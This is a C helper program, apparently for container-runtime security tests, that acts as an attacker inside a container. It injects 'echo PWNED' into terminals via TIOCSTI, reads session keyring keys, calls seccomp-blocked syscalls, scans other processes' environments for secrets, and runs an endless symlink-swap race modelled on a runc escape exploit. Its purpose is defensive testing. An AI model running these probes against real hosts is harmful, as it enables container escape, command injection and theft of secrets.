/* What an attacker inside a container would try: built static by the security tests
 * (gcc -static) and bind-mounted into busybox containers, which have no tool for these.
 *
 *   probe tiocsti            push "echo PWNED" into the terminal of fds 0-2 and /dev/tty
 *   probe keyring KEY        our session keyring's id; then try to read key KEY
 *   probe syscalls           call syscalls podman's seccomp profile refuses; print each errno
 *   probe spy SECRET SECS    scan /proc/N/environ of every process for SECRET for SECS seconds
 *   probe flip DIR TARGET    swap DIR/sub between a directory and a symlink to TARGET, forever
 *   probe fds                the target of every open descriptor
 *
 * Every line printed is "what: result" so the tests can parse it.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int tiocsti(void) {
    const char *cmd = "echo PWNED\n";
    int fds[4] = {0, 1, 2, -1};
    fds[3] = open("/dev/tty", O_RDWR | O_NOCTTY);
    for (int i = 0; i < 4; i++) {
        int fd = fds[i];
        if (fd < 0) {
            printf("tiocsti /dev/tty: open failed errno=%d\n", errno);
            continue;
        }
        int pushed = 0, err = 0;
        for (const char *c = cmd; *c; c++) {
            if (ioctl(fd, TIOCSTI, c) == 0) {
                pushed++;
            } else {
                err = errno;
                break;
            }
        }
        printf("tiocsti fd%d: pushed=%d errno=%d\n", i == 3 ? -1 : fd, pushed, err);
    }
    return 0;
}

static int keyring(const char *key) {
    long id = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
    printf("keyring session: %ld errno=%d\n", id, id < 0 ? errno : 0);
    char buf[256];
    long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, atol(key), buf, sizeof buf);
    printf("keyring read: %ld errno=%d\n", n, n < 0 ? errno : 0);
    if (n > 0)
        printf("keyring data: %.*s\n", (int)(n < (long)sizeof buf ? n : (long)sizeof buf), buf);
    return 0;
}

static void call(const char *name, long nr, long a, long b, long c, long d, long e) {
    errno = 0;
    long r = syscall(nr, a, b, c, d, e);
    printf("syscall %s: %ld errno=%d\n", name, r, r < 0 ? errno : 0);
}

static int syscalls(void) {
    char attr[128] = {0};
    call("bpf", SYS_bpf, 0, (long)attr, sizeof attr, 0, 0);
    call("add_key", SYS_add_key, (long)"user", (long)"probe", (long)"x", 1, -3);
    call("perf_event_open", SYS_perf_event_open, (long)attr, 0, -1, -1, 0);
    call("io_uring_setup", SYS_io_uring_setup, 1, (long)attr, 0, 0, 0);
    call("kcmp", SYS_kcmp, getpid(), getpid(), 0, 0, 0);
    call("socket_audit", SYS_socket, 16 /* AF_NETLINK */, 3 /* SOCK_RAW */, 9 /* NETLINK_AUDIT */, 0, 0);
    return 0;
}

static int spy(const char *secret, int secs) {
    time_t end = time(NULL) + secs;
    long hits = 0, reads = 0;
    char path[64], buf[65536];
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            ssize_t n = read(fd, buf, sizeof buf - 1);
            close(fd);
            if (n <= 0)
                continue;
            reads++;
            if (memmem(buf, n, secret, strlen(secret)))
                hits++;
        }
        if (d)
            closedir(d);
    }
    printf("spy reads=%ld hits=%ld\n", reads, hits);
    return 0;
}

static int flip(const char *dir, const char *target) {
    /* DIR/sub is a directory and DIR/sub.tmp a symlink to TARGET; swap them atomically, forever
     * (renameat2 RENAME_EXCHANGE), as CVE-2021-30465's exploit did. */
    char sub[4096], tmp[4096];
    snprintf(sub, sizeof sub, "%s/sub", dir);
    snprintf(tmp, sizeof tmp, "%s/sub.tmp", dir);
    unlink(tmp);
    rmdir(sub);
    unlink(sub);
    if (mkdir(sub, 0755) != 0 || symlink(target, tmp) != 0) {
        printf("flip: setup failed errno=%d\n", errno);
        return 1;
    }
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, sub, AT_FDCWD, tmp, 2 /* RENAME_EXCHANGE */);
    return 0;
}

static int fds(void) {
    char path[64], target[4096];
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n < 0)
            continue;
        target[n] = 0;
        printf("fd %d: %s\n", fd, target);
    }
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "tiocsti"))
        return tiocsti();
    if (argc >= 3 && !strcmp(argv[1], "keyring"))
        return keyring(argv[2]);
    if (argc >= 2 && !strcmp(argv[1], "syscalls"))
        return syscalls();
    if (argc >= 4 && !strcmp(argv[1], "spy"))
        return spy(argv[2], atoi(argv[3]));
    if (argc >= 4 && !strcmp(argv[1], "flip"))
        return flip(argv[2], argv[3]);
    if (argc >= 2 && !strcmp(argv[1], "fds"))
        return fds();
    fprintf(stderr, "usage: probe tiocsti|keyring KEY|syscalls|spy SECRET SECS|flip DIR TARGET|fds\n");
    return 2;
}
